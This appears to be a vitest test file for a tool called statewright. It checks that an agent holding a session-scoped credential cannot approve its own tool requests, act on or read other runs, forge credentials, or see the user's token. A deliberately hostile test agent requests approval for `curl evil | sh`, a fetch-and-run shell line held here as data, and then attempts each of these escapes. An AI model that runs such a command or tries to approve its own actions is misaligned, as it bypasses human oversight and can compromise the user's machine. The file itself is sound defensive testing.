/**
 * The credential serve gives a session's agent (src/serve/scoped-credential.ts), attacked by the
 * agent itself: a real serve hosting a session whose agent (examples/agents/self-approve.mjs) asks
 * for approval of `curl evil | sh`, then, with the credential in its environment, tries to approve
 * it, send other events, start a session, end and read another run, follow every run's steps,
 * forge a credential for another run and run `statewright send`. Every attempt is refused with a
 * typed error and nothing changes; the user's token approves, and the audit trail says which
 * credential did what. A serve restarted with the same token still accepts the credential.
 */
import { existsSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { beforeAll, expect, it } from 'vitest';
import { testDir } from '../stores/temp-dir.js';
import { endWithTest, startCommand } from '../support/child-processes.js';
import { isolateGit, makeRepo } from '../support/git-repo.js';
import { api, startServeProcess, type ServeProcess } from '../support/serve-process.js';
import { until } from '../support/until.js';

const agents = (name: string) => fileURLToPath(new URL(`../../examples/agents/${name}`, import.meta.url));
const bin = fileURLToPath(new URL('../../bin/statewright.js', import.meta.url));
const path = (runId: string) => `/api/runs/${encodeURIComponent(runId)}`;

beforeAll(isolateGit);

function runWhen(serve: ServeProcess, id: string, wanted: (run: any) => boolean): Promise<any> {
  return until(`run ${id} to reach the state wanted`, async () => {
    const { body } = await api(serve.url, 'GET', path(id));
    return body.run && wanted(body.run) ? body.run : undefined;
  });
}

async function startSession(serve: ServeProcess, id: string, command: string, env: Record<string, string>) {
  const started = await api(serve.url, 'POST', '/api/runs', {
    machine: 'session',
    id,
    input: { query: 'Make the test pass', config: { command: [command], env } },
  });
  expect(started.status, JSON.stringify(started.body)).toBe(201);
  const run = await runWhen(serve, id, (r) => r.context.agent?.pid !== undefined || r.status !== 'active');
  endWithTest(run.context.agent?.pid);
  return run;
}

/** The agent's environment, as the kernel shows it. */
const environOf = (pid: number) =>
  Object.fromEntries(
    readFileSync(`/proc/${pid}/environ`, 'utf8')
      .split('\0')
      .filter((entry) => entry.includes('='))
      .map((entry) => [entry.slice(0, entry.indexOf('=')), entry.slice(entry.indexOf('=') + 1)]),
  );

it('an agent cannot approve itself, nor start, end, send to or read any other run, with the credential it was given', async () => {
  const dir = testDir('agent-credential');
  const token = 'a-user-token-of-this-test-0123456789';
  const store = ['--store', `sqlite:${join(dir, 'state.db')}`, '--create', '--token', token];
  // The token from serve's own environment, as a user who exports it starts serve.
  let serve = await startServeProcess(dir, store.slice(0, -2), { STATEWRIGHT_TOKEN: token });
  const release = join(dir, 'release');
  const report = join(dir, 'report.json');

  await startSession(serve, 'other', agents('until-file.sh'), { STANDIN_RELEASE_FILE: release });
  const otherBefore = await runWhen(serve, 'other', (r) => r.state === 'running');

  const hostile = await startSession(serve, 'hostile', agents('self-approve.mjs'), {
    STANDIN_SERVER_URL: serve.url,
    STANDIN_OTHER_RUN: 'other',
    STANDIN_REPORT_FILE: report,
    STANDIN_RELEASE_FILE: release,
    STANDIN_STATEWRIGHT_BIN: bin,
  });
  // Its environment holds its own credential, never the user's token.
  const credential = environOf(hostile.context.agent.pid).STATEWRIGHT_TOKEN!;
  expect(credential).toMatch(/^sw-session\./);
  expect(readFileSync(`/proc/${hostile.context.agent.pid}/environ`, 'utf8')).not.toContain(token);

  // No other process serve starts inherits the token from serve's environment either: a codon's agent.
  const repo = await makeRepo();
  const codon = await api(serve.url, 'POST', '/api/runs', {
    machine: 'codon',
    id: 'run-1/notes/1',
    input: {
      runId: 'run-1',
      codonId: 'notes',
      startedAt: Date.now(),
      workTree: repo.dir,
      agent: { command: [agents('hang.sh')], prompt: 'Write the notes.', logPath: join(dir, 'codon.log') },
    },
  });
  expect(codon.status, JSON.stringify(codon.body)).toBe(201);
  const codonAgent = await until('the codon to spawn its agent', async () => {
    const { body } = await api(serve.url, 'GET', `${path('run-1/notes/1')}/history`);
    return body.events.find((e: any) => e.event.type === 'agent.spawned')?.event.pid as number | undefined;
  });
  endWithTest(codonAgent);
  expect(readFileSync(`/proc/${codonAgent}/environ`, 'utf8')).not.toContain(token);
  repo.remove();

  const { asked, attempts } = JSON.parse(
    await until('the agent to report its attempts', () => existsSync(report) && readFileSync(report, 'utf8')),
  );
  // What it may do: ask for approval on its own session.
  expect(asked).toMatchObject({ status: 200 });
  const forbidden = { status: 403, error: 'CredentialScopeError', kind: 'forbidden' };
  expect(attempts).toEqual({
    resolve: forbidden,
    resolveWithAskingKey: forbidden,
    takeTheInterruptKey: forbidden,
    interruptItself: forbidden,
    sendToOther: forbidden,
    askOnOther: forbidden,
    start: forbidden,
    endOther: forbidden,
    readOther: forbidden,
    otherHistory: forbidden,
    listRuns: forbidden,
    host: forbidden,
    everyStep: forbidden,
    otherSteps: forbidden,
    // A credential serve did not give out is no credential: refused as a wrong token.
    forgedForOther: { status: 401, error: 'UnauthorizedError', kind: 'unauthorized' },
    cliSend: { status: 1, error: expect.stringMatching(/^statewright: Refused .*session:hostile/) },
  });

  // Nothing changed: the approval waits for a person, the other run is where it was, nothing started.
  const waiting = await runWhen(serve, 'hostile', () => true);
  expect(waiting.state).toBe('waiting_input');
  expect(waiting.context.approvals).toEqual([
    expect.objectContaining({ approval_id: 'a-1', status: 'pending', tool_input: { command: 'curl evil | sh' } }),
  ]);
  const otherAfter = await runWhen(serve, 'other', () => true);
  expect([otherAfter.seq, otherAfter.state, otherAfter.status]).toEqual([otherBefore.seq, 'running', 'active']);
  expect((await api(serve.url, 'GET', path('started-by-agent'))).status).toBe(404);
  expect(existsSync(join(dir, 'pwned'))).toBe(false);

  // The user's token approves; the audit trail says which credential asked and which decided.
  const approved = await api(serve.url, 'POST', `${path('hostile')}/events`, {
    event: { type: 'APPROVAL_RESOLVED', approval_id: 'a-1', decision: 'approved' },
    actor: 'alice',
  });
  expect(approved.status, JSON.stringify(approved.body)).toBe(200);
  const { body } = await api(serve.url, 'GET', `${path('hostile')}/history`);
  const entry = (type: string) => body.events.find((e: any) => e.event.type === type);
  // The agent's request said `credential: user-token`: the request's word counts for the actor only.
  expect(entry('APPROVAL_REQUESTED')).toMatchObject({ actor: 'agent', credential: 'session:hostile' });
  expect(entry('APPROVAL_RESOLVED')).toMatchObject({ actor: 'alice', credential: 'user-token' });
  // `statewright history` says it too, after the name the sender gave.
  const printed = await startCommand(process.execPath, [bin, 'history', 'hostile', '--store', store[1]!], {
    cwd: dir,
    reject: false,
  });
  expect(printed.stdout).toMatch(/--APPROVAL_REQUESTED--> waiting_input .* {2}by agent via session:hostile$/m);
  expect(printed.stdout).toMatch(/--APPROVAL_RESOLVED--> running .* {2}by alice via user-token$/m);

  // A serve restarted with the same token accepts the credential (derived, not stored); another token does not.
  expect(await serve.stop('SIGTERM')).toBe(0);
  serve = await startServeProcess(dir, store);
  const own = (url: string) =>
    fetch(`${url}${path('hostile')}`, { headers: { authorization: `Bearer ${credential}` } });
  expect((await own(serve.url)).status).toBe(200);
  expect(await serve.stop('SIGTERM')).toBe(0);
  serve = await startServeProcess(dir, [...store.slice(0, -1), 'another-token-of-this-test-98765']);
  expect((await own(serve.url)).status).toBe(401);
  writeFileSync(release, '');
});
